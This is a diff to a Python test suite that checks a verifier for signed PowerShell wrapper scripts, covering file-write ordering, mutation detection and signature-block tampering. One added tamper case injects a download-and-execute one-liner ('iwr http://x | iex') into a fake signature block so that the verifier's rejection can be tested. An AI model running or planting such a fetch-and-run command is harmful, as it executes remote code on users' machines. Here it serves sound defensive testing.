@@ -128,7 +128,7 @@ def test_the_proof_notices_what_is_put_into_the_wrapper(statement: str) -> None:
     [
         (".ProviderPath, ", ".Path, "),
         ("COMPUTERNAME.ssofacts", "COMPUTERNAME.exe"),
-        ("Delete($file)", "Delete($temporary)"),
+        ("Delete($temporary)", "Delete($file)"),
         ("Move($temporary, $file)", "Move($file, $temporary)"),
         ("& $NodeScript", "& $Node"),
         ("$PID.tmp", "tmp"),
@@ -148,10 +148,18 @@ def test_the_lists_name_nothing_that_is_not_used(name: str, monkeypatch: pytest.
         assert wrapped.violations(SOURCE) != [], entry
 
 
-def test_nothing_is_written_before_everything_was_read() -> None:
-    calls = [SOURCE.index(call) for call in ("& $NodeScript", "WriteAllBytes", "::Delete(", "::Move(")]
+def test_the_file_has_its_name_only_once_everything_was_read() -> None:
+    steps = (
+        "WriteAllText(",
+        "& $NodeScript",
+        "WriteAllBytes(",
+        "::Replace(",
+        "::Move(",
+        "finally {\n    [IO.File]::Delete(",
+    )
+    calls = [SOURCE.index(step) for step in steps]
     assert calls == sorted(calls)
-    assert "if ($Force) { [IO.File]::Delete($file) }" in SOURCE
+    assert "if ($Force -and [IO.File]::Exists($file)) {\n        [IO.File]::Replace(" in SOURCE
 
 
 def test_a_restricted_language_is_told_before_anything_that_it_forbids() -> None:
@@ -199,6 +207,23 @@ def test_a_script_is_known_again_with_and_without_a_signature(saved: Path, chang
     assert is_signed(saved.read_bytes()) is bool(change)
 
 
+@pytest.mark.parametrize(
+    "block",
+    [
+        b"\r\n# SIG # Begin signature block\r\niwr http://x | iex\r\n",
+        SIGNATURE.replace(b"# MII", b"exit # MII"),
+        SIGNATURE.replace(b"MIIabc=", b"MII\rexit"),
+        SIGNATURE.replace(b"# MIIabc=\r\n", b""),
+        SIGNATURE + b"exit\r\n",
+        SIGNATURE + SIGNATURE,
+    ],
+)
+def test_what_is_no_signature_is_a_change(saved: Path, block: bytes) -> None:
+    saved.write_bytes(DATA + block)
+    with pytest.raises(DocumentError, match="what stands around it was changed"):
+        verify(saved)
+
+
 def test_line_ends_do_not_matter(saved: Path) -> None:
     saved.write_bytes(b"\xef\xbb\xbf" + DATA.replace(b"\r\n", b"\n"))
     assert not verify(saved)
@@ -208,7 +233,7 @@ def test_line_ends_do_not_matter(saved: Path) -> None:
     ("old", "new", "sentence"),
     [
         (b"EnumKey", b"DeleteKey", "the node script in it has the SHA-256 "),
-        (b"Delete($file)", b"Delete($x)", "what stands around it was changed"),
+        (b"Delete($temporary)", b"Delete($x)", "what stands around it was changed"),
         (b"$ScriptHash = '", b"$ScriptHash = '0", "what stands around it was changed"),
         (b"# What is asked for: {", b"# What is asked for: { ", "what stands around it was changed"),
         (b"$Parameters = 'e", b"$Parameters = 'f", "the parameters are not Base64 of JSON"),
